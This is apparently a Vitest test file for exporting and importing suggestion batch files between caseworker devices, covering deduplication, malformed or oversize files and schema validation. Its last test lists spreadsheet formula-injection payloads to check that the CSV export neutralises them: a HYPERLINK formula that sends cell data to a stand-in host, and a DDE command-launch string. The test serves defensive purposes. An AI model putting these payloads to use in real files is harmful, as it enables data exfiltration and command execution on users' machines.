import 'fake-indexeddb/auto';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { makeSuggestion } from '../../tests/fixtures/make-suggestion';
import type { Suggestion } from '../model';
import { openLocalStore, type LocalStore } from '../store';
import { createOutbox, MAX_IMPORT_BYTES, OutboxError, type Outbox } from '.';

const source = { kind: 'extension', version: '0.1.0', site: 'https://jobcenter-musterstadt.example' } as const;
let stores: LocalStore[] = [];
afterEach(() => {
  stores.forEach((store) => store.close());
  stores = [];
});

async function device(): Promise<{ store: LocalStore; outbox: Outbox }> {
  const store = await openLocalStore({ name: `test-${crypto.randomUUID()}` });
  stores.push(store);
  return { store, outbox: createOutbox({ store, source }) };
}

/** A batch file as an offline caseworker's device exports it. */
async function exportedFile(suggestions: Suggestion[] = [makeSuggestion(), makeSuggestion()]) {
  const { store, outbox } = await device();
  for (const suggestion of suggestions) await store.suggestions.add(suggestion, 'queued');
  const [entry] = (await outbox.queue('all-unsent')).created;
  return { json: await outbox.exportJson(entry!.batch.batchId), csv: await outbox.exportCsv(entry!.batch.batchId), batch: entry!.batch };
}

async function failure(run: () => Promise<unknown>): Promise<OutboxError> {
  const error = await run().then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(OutboxError);
  return error as OutboxError;
}

async function expectNothingImported({ store, outbox }: { store: LocalStore; outbox: Outbox }) {
  expect(await store.suggestions.count()).toBe(0);
  expect(await outbox.list()).toEqual([]);
}

describe('exported batch files', () => {
  it('are the batch itself, named by date and batch, and can be imported on another device', async () => {
    const { json, batch } = await exportedFile();
    expect(json).toMatchObject({ fileName: `mitgestalten-paket-${batch.createdAt.slice(0, 10)}-${batch.batchId.slice(0, 8)}.json`, mimeType: 'application/json' });
    expect(JSON.parse(json.text)).toEqual(batch);

    const elsewhere = await device();
    const report = await elsewhere.outbox.importBatchFile(json.text);
    expect(report).toMatchObject({ outcome: 'imported', batchId: batch.batchId, added: batch.suggestions.map((s) => s.id), message: expect.stringMatching(/^2 Vorschläge wurden importiert/) });
    // Imported unchanged, same batchId: if the batch also reaches the backlog another way, it is stored once.
    expect((await elsewhere.outbox.list())[0]).toMatchObject({ batch, state: 'queued', origin: 'imported' });
  });
});

describe('importing batch files', () => {
  it('ignores a file imported again, and suggestions it already has', async () => {
    const { json, batch } = await exportedFile();
    const target = await device();
    await target.outbox.importBatchFile(json.text);
    const again = await target.outbox.importBatchFile(new Blob([json.text]));
    expect(again).toMatchObject({ outcome: 'already-imported', added: [], message: expect.stringMatching(/schon vorhanden/) });
    expect(await target.store.suggestions.count()).toBe(2);
    expect(await target.outbox.list()).toHaveLength(1);

    // Another file holding one known and one new suggestion: only the new one is added.
    const fresh = makeSuggestion();
    const overlapping = await exportedFile([batch.suggestions[0]!, fresh]);
    expect(await target.outbox.importBatchFile(overlapping.json.text)).toMatchObject({
      outcome: 'imported',
      added: [fresh.id],
      alreadyKnown: [batch.suggestions[0]!.id],
      message: expect.stringMatching(/1 Vorschlag war schon vorhanden/),
    });
    expect(await target.store.suggestions.get(batch.suggestions[0]!.id)).toMatchObject({ batchId: batch.batchId });
    expect(await target.store.suggestions.count()).toBe(3);
  });

  it('rejects malformed JSON, saying where, and imports nothing', async () => {
    const { json } = await exportedFile();
    const target = await device();
    const error = await failure(() => target.outbox.importBatchFile(json.text.slice(0, 400)));
    expect(error).toMatchObject({ kind: 'file-not-json', message: expect.stringMatching(/kein gültiges JSON.*Es wurde nichts importiert/) });
    const broken = json.text.replace('"schemaVersion": 1,', '"schemaVersion": 1,,');
    expect((await failure(() => target.outbox.importBatchFile(broken))).message).toMatch(/Zeile 3/);
    await expectNothingImported(target);
  });

  it('names a file of another format version as such', async () => {
    const { json } = await exportedFile();
    const target = await device();
    const newer = JSON.stringify({ ...JSON.parse(json.text), schemaVersion: 2 });
    const error = await failure(() => target.outbox.importBatchFile(newer));
    expect(error).toMatchObject({ kind: 'file-schema-version', problems: [{ path: 'schemaVersion', message: expect.stringMatching(/2/) }] });
    expect(error.message).toMatch(/Version 2; diese Version von Mitgestalten liest Version 1.*aktualisieren/);
    await expectNothingImported(target);
  });

  it('reports every problem with its path and imports nothing, not even the valid suggestions', async () => {
    const { json } = await exportedFile([makeSuggestion(), makeSuggestion(), makeSuggestion()]);
    const data = JSON.parse(json.text);
    data.suggestions[1].page.url = 'https://jobcenter.example/antrag?kundennummer=123A456789';
    delete data.suggestions[2].problem;
    data.source.kind = 'fax';
    const target = await device();
    const error = await failure(() => target.outbox.importBatchFile(JSON.stringify(data)));
    expect(error.kind).toBe('file-invalid');
    expect(error.problems.map((problem) => problem.path).sort()).toEqual(['source.kind', 'suggestions[1].page.url', 'suggestions[2].problem']);
    expect(error.message).toMatch(/^Die Paketdatei ist ungültig, es wurde nichts importiert: .*suggestions\[1\]\.page\.url: /);
    await expectNothingImported(target);
  });

  it('refuses an oversize file by its size alone, before reading it, naming the limit', async () => {
    const target = await device();
    const text = vi.fn(async () => '{}');
    const huge = { size: 25_000_000, text } as unknown as Blob;
    const error = await failure(() => target.outbox.importBatchFile(huge));
    expect(error).toMatchObject({ kind: 'file-too-large', message: 'Die Datei ist 25 MB groß; Paketdateien dürfen höchstens 10 MB groß sein. Es wurde nichts importiert. Bitte lassen Sie die Vorschläge in mehreren kleineren Paketen exportieren.' });
    expect(text).not.toHaveBeenCalled();
    expect(MAX_IMPORT_BYTES).toBe(10_000_000);

    const { json } = await exportedFile();
    expect((await failure(() => target.outbox.importBatchFile(json.text, { maxBytes: 1_000 }))).message).toMatch(/höchstens 1 KB/);
    await expectNothingImported(target);
  });

  it('neutralises formula payloads in the CSV export and refuses to import a CSV file', async () => {
    const payloads = ['=HYPERLINK("https://boese.example/?d="&A1;"Klick")', '+1+2', '-1+cmd|\' /C calc\'!A0', '@SUMME(A1:A9)'];
    const { csv } = await exportedFile(payloads.map((payload) => makeSuggestion({ problem: payload, proposal: payload })));
    expect(csv).toMatchObject({ mimeType: 'text/csv;charset=utf-8', fileName: expect.stringMatching(/\.csv$/) });
    for (const payload of payloads) {
      expect(csv.text).toContain(`"'${payload.replaceAll('"', '""')}"`);
      expect(csv.text).not.toContain(`;"${payload.replaceAll('"', '""')}"`);
    }
    const target = await device();
    const error = await failure(() => target.outbox.importBatchFile(csv.text));
    expect(error).toMatchObject({ kind: 'file-is-csv', message: expect.stringMatching(/CSV-Datei.*JSON-Datei/) });
    await expectNothingImported(target);
  });
});
